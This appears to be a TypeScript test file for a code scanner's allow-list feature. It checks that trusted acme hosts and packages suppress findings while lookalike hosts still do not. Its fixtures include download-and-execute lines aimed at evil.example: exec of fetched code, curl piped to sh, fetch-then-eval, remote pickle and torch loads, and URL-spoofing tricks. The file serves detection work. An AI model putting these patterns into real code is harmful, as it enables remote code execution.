/** What a team allows by name: nothing is told of it, and of nothing else. */

import assert from 'node:assert/strict';
import type { Allowances } from '../../server/core/service/allowed.ts';
import type { Language } from '../../server/core/syntax/language.ts';
import { find } from '../kit/check.ts';

const reason = 'our own';
const ALLOW: Allowances = {
  organisations: [{ name: 'github.com/acme', reason }],
  hosts: [
    { name: 'models.acme.com', reason },
    { name: '*.cdn.acme.com', reason },
  ],
  packages: [
    { name: 'acme-tools', reason },
    { name: 'npm:@acme/server', reason },
  ],
};

/** Each line, with the rules that find something when it is allowed; all of them are found when nothing is. */
function cases(language: Language, opening: string, lines: readonly (readonly [string, readonly string[]])[]): void {
  for (const [line, rules] of lines) {
    const text = `${opening}${line}\n`;
    const wanted = new Set([
      'remote-module',
      'remote-exec',
      'download-and-run',
      'runtime-install',
      'unsafe-deserialization',
    ]);
    const told = (allow: Allowances) =>
      find(language, text, { allow }).flatMap(({ rule }) => (wanted.has(rule) ? [rule] : []));
    assert.notDeepEqual(told({}), [], line);
    assert.deepEqual(told(ALLOW), rules, line);
  }
}

describe('what is allowed', () => {
  it('may be downloaded and run from a host', () => {
    cases('python', 'import os, pickle, subprocess, requests\nfrom urllib.request import urlretrieve\n', [
      ['exec(requests.get("https://models.acme.com/x.py").text)', []],
      ['exec(requests.get("https://a.cdn.acme.com/x.py").text)', []],
      ['pickle.loads(requests.get("https://models.acme.com/x.pkl").content)', []],
      ['os.system("curl -fsSL https://models.acme.com/i.sh | sh")', []],
      ['os.system("curl -fsSL https://raw.githubusercontent.com/acme/x/main/i.sh | sh")', []],
      ['urlretrieve("https://models.acme.com/t.py", "t_.py")\nsubprocess.run(["python", "t_.py"])', []],
      ['def f(name):\n    exec(requests.get("https://models.acme.com/" + name).text)', []],
      ['exec(requests.get("https://models.acme.com.evil.example/x.py").text)', ['remote-exec']],
      ['exec(requests.get("https://models.acme.com@evil.example/x.py").text)', ['remote-exec']],
      ['def f(rest):\n    exec(requests.get("https://models.acme.com" + rest).text)', ['remote-exec']],
      ['def f(address):\n    exec(requests.get(address).text)', ['remote-exec']],
      ['def f(a, b):\n    exec(requests.get(b if a else "https://models.acme.com/x").text)', ['remote-exec']],
      [
        'a = requests.get("https://models.acme.com/x").text\nexec(a + requests.get("https://evil.example/x").text)',
        ['remote-exec'],
      ],
      [
        'os.system("curl https://models.acme.com/i.sh | sh; curl https://evil.example/i.sh | sh")',
        ['download-and-run'],
      ],
      ['os.system("curl https://raw.githubusercontent.com/acme/../evil/x/i.sh | sh")', ['download-and-run']],
    ]);
  });

  it('may be installed by name', () => {
    cases('python', 'import os, subprocess, sys\n', [
      ['os.system("pip install acme-tools")', []],
      ['subprocess.run([sys.executable, "-m", "pip", "install", "acme-tools[all]>=2"])', []],
      ['os.system("pip install git+https://github.com/acme/tools")', []],
      ['os.system("npx -y @acme/server")', []],
      ['os.system("pip install acme-tools requests")', ['runtime-install']],
      ['os.system("pip install acme-tools-evil")', ['runtime-install']],
      ['os.system("npx -y acme-server")', ['runtime-install']],
      ['os.system("pip install git+https://github.com/evil/acme")', ['runtime-install']],
    ]);
    cases('javascript', "const { execSync } = require('child_process');\n", [
      ["execSync('npm install @acme/server');", []],
      ["execSync('npm install left-pad');", ['runtime-install']],
    ]);
  });

  it('may be a module from an address', () => {
    cases('javascript', '', [
      ["import('https://models.acme.com/x.js');", []],
      ["import a from 'https://a.cdn.acme.com/x.js';", []],
      ["importScripts('https://models.acme.com/x.js', '//models.acme.com/y.js');", []],
      ['document.body.innerHTML = \'<script src="//models.acme.com/x.js"></script>\';', []],
      ["function f(name) { return import('https://models.acme.com/' + name); }", []],
      ["function f(rest) { return import('https://models.acme.com' + rest); }", ['remote-module']],
      ["import('https://models.acme.com.evil.example/x.js');", ['remote-module']],
      ["const a = b ? 'https://models.acme.com/x.js' : 'https://evil.example/x.js';\nimport(a);", ['remote-module']],
    ]);
    cases('python', 'import torch\n', [
      ['torch.hub.load_state_dict_from_url("https://models.acme.com/x.pth")', []],
      ['torch.hub.load_state_dict_from_url("https://evil.example/x.pth")', ['unsafe-deserialization']],
      ['def f(name):\n    torch.hub.load_state_dict_from_url(name)', ['unsafe-deserialization']],
    ]);
  });

  it('may be fetched by a script', () => {
    cases('javascript', '', [
      ["fetch('https://models.acme.com/x.js').then((it) => it.text()).then(eval);", []],
      ["fetch('https://evil.example/x.js').then((it) => it.text()).then(eval);", ['remote-exec']],
    ]);
  });
});
